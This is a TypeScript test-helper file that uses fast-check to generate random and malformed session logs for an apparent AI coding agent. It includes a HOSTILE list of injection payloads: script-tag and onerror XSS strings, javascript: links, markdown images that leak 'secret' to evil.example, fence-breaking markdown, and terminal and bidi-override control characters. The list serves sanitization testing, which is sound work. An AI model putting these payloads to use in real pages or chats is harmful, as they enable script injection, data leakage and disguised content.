import fc from "fast-check";
import type { ShellEntry } from "../context/index.ts";
import { type Draft, FORMAT, FORMAT_VERSION, type Header, type LeafEntry, Log, memoryStore, type RelocateEntry } from "../log/index.ts";
import type { MessageEntry, RunEndEntry } from "../loop/index.ts";
import { type AssistantPart, NO_USAGE, type ToolResultPart, type UserPart } from "../model/index.ts";
import type { LabelEntry, SetupEntry, TitleChangeEntry } from "../journal/index.ts";
import type { SessionSource } from "./source.ts";

export const HEADER: Header = { format: FORMAT, version: FORMAT_VERSION, id: "one", cwd: "/project", at: 1_700_000_000_000 };

/** An image of one pixel. */
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

export const setup = (title?: string): Draft<SetupEntry> => ({
  type: "setup",
  setup: { model: "acme/large", ...(title === undefined ? {} : { title }) },
});

export const user = (...content: readonly (string | UserPart)[]): Draft<MessageEntry> => ({
  type: "message",
  message: { role: "user", content: content.map((part) => (typeof part === "string" ? { type: "text", text: part } : part)) },
});

export const assistant = (...content: readonly (string | AssistantPart)[]): Draft<MessageEntry> => ({
  type: "message",
  message: {
    role: "assistant",
    content: content.map((part) => (typeof part === "string" ? { type: "text", text: part } : part)),
    model: "acme/large",
    stop: "stop",
    usage: { ...NO_USAGE, input: 10, output: 5 },
    cost: 0.01,
  },
});

export const call = (id: string, input: unknown = {}, name = "bash"): AssistantPart => ({ type: "tool_call", id, name, input });

export const result = (callId: string, ...content: readonly (string | ToolResultPart)[]): Draft<MessageEntry> => ({
  type: "message",
  message: {
    role: "tool",
    callId,
    name: "bash",
    content: content.map((part) => (typeof part === "string" ? { type: "text", text: part } : part)),
    isError: false,
  },
});

export const image = (data = PNG, mediaType = "image/png"): UserPart & ToolResultPart => ({ type: "image", mediaType, data });

export type AnyDraft = Draft;

/** Creates a log from drafts, with entry ids `e0`, `e1`, … and times one second apart. */
export const logOf = async (drafts: readonly AnyDraft[], header: Header = HEADER): Promise<Log> => {
  let minted = 0;
  let time = header.at;
  const log = await Log.open(await memoryStore().create(header), { now: () => (time += 1000), mint: () => `e${minted++}` });
  for (const draft of drafts) await log.append(draft);
  return log;
};

export const moveLeaf = async (log: Log, to: string | null): Promise<void> => {
  await log.append<LeafEntry>({ type: "leaf", to });
};

export const sourceOf = ({ header, entries }: Pick<Log, "header" | "entries">): SessionSource => ({
  header,
  async *read() {
    yield* entries;
  },
});

export const textOfAll = async (pieces: AsyncIterable<string>): Promise<string> => {
  let text = "";
  for await (const piece of pieces) text += piece;
  return text;
};

/** Strings that could break out of a page or document, load a resource, or be invisible. */
export const HOSTILE = [
  "</script><script>alert(1)</script>",
  '<img src="https://evil.example/x.png" onerror=alert(1)>',
  "![x](https://evil.example/leak?q=secret)",
  "![x][y]\n\n[y]: https://evil.example/leak",
  "[click](javascript:alert(1))",
  "[safe](https://evil.example)",
  "<https://evil.example>",
  "\\<img src=x>",
  "- a\n  ```\n![x](https://evil.example)",
  "> ```\n![x](https://evil.example)",
  "```\ncode ![in](a) <b>\n```\n![x](https://evil.example)",
  "~~~\nnever closed <b>",
  "``` `not a fence\n![x](https://evil.example)",
  "\u001b[2J\u0007\u0000",
  "\u202etxt.exe\u202c \u2066x\u2069 \u{e0041}",
  "half \ud800 a character",
  "\u0001forged\u0002",
  "]]> --> <!-- <?php",
  "# Heading\r\nwith another\rline\u2028end",
  "``````````",
  "&lt;script&gt; &amp;",
  '" onload="alert(1)',
];

const text = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "binary" }), fc.string({ unit: "grapheme" }));

/** JSON values after a round trip, because -0 becomes 0. */
const json = fc.jsonValue().map((value): unknown => JSON.parse(JSON.stringify(value)));

const anyDraft: fc.Arbitrary<AnyDraft> = fc.oneof(
  text.map((value) => user(value)),
  text.map((value) => user(value, image())),
  text.map((value) => assistant(value)),
  fc.tuple(text, text).map(([id, value]) => assistant({ type: "reasoning", text: value }, call(id, { command: value }, value))),
  fc
    .tuple(text, text, json)
    .map(([name, output, input]) => assistant({ type: "provider", name, input, output, providerData: { acme: {} } })),
  fc.tuple(text, text).map(([id, value]) => result(id, value)),
  text.map((value): Draft<TitleChangeEntry> => ({ type: "title_change", title: value })),
  text.map((value): Draft<RelocateEntry> => ({ type: "relocate", cwd: value })),
  text.map((value): Draft<ShellEntry> => ({ type: "shell", command: value, output: value, exitCode: 0, include: true })),
  text.map((value): Draft<LabelEntry> => ({ type: "label", target: "e0", label: value })),
  text.map((value): Draft<RunEndEntry> => ({ type: "run_end", run: "r", outcome: { kind: "aborted", reason: value } })),
  fc.record({ type: fc.constant("unheard_of"), content: json }),
);

/** Entries that do not match their types. */
const malformed: fc.Arbitrary<AnyDraft> = fc.record({
  type: fc.constantFrom("message", "run_end", "setup", "shell", "title_change", "relocate", "label", "leaf"),
  message: json,
  setup: json,
  outcome: json,
  title: json,
});

type Step = { readonly draft: AnyDraft } | { readonly back: number };

const logs = (drafts: fc.Arbitrary<AnyDraft>): fc.Arbitrary<Promise<Log>> =>
  fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: drafts.map((draft): Step => ({ draft })) },
        fc.nat().map((back): Step => ({ back })),
      ),
      { maxLength: 25 },
    )
    .map(async (steps) => {
      const log = await logOf([]);
      for (const step of steps) {
        const standing = log.entries.filter(({ type }) => type !== "leaf");
        if ("draft" in step) await log.append(step.draft);
        else await moveLeaf(log, standing[step.back % (standing.length + 1)]?.id ?? null);
      }
      return log;
    });

/** Generates logs with arbitrary strings and branches. */
export const soundLog = logs(anyDraft);

/** Generates logs that also contain invalid entries. */
export const anyLog = logs(fc.oneof({ weight: 8, arbitrary: anyDraft }, malformed));
